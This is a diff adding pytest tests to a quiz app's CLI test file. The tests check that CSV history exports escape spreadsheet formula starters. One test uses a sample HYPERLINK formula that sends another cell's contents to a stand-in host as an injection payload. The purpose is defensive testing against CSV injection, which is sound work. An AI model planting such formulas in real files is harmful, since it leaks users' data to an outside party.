@@ -6,6 +6,7 @@ import pytest
 
 from quizapp.cli import build_parser, main
 from quizapp.paths import data_dir
+from quizapp.reports import spreadsheet_safe
 from quizapp.store import Collection
 from tests.conftest import PackFactory, choice_question
 from tests.store.conftest import play
@@ -154,3 +155,27 @@ def test_csv_to_a_missing_folder_or_a_folder_path_writes_nothing(
     assert folder.is_dir()
     assert list(folder.iterdir()) == []
     assert [p.name for p in tmp_path.iterdir() if p.suffix == ".tmp"] == []
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_history_csv_never_opens_pack_text_as_a_formula(
+    tmp_path: Path, pack_file: PackFactory, start: str
+) -> None:
+    formula = f'{start}HYPERLINK("http://example.invalid/?leak="&B2, "click")'
+    question = choice_question(1, prompt=formula, explanation=formula)
+    folder = tmp_path / "data"
+    with Collection.open(folder) as collection:
+        collection.sync_shipped_packs(pack_file(title=formula, questions=[question]).parent)
+        play(collection, "Ann", "R", count=1)
+    target = tmp_path / "ann.csv"
+    assert main(["history", "Ann", "--csv", str(target), "--data-dir", str(folder)]) == 0
+    with target.open(encoding="utf-8", newline="") as stream:
+        row = next(csv.DictReader(stream))
+    for column in ("pack", "question", "explanation"):
+        assert row[column] == f"'{formula}"
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_made_text(start: str) -> None:
+    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
+    assert spreadsheet_safe(f"a{start}1") == f"a{start}1"
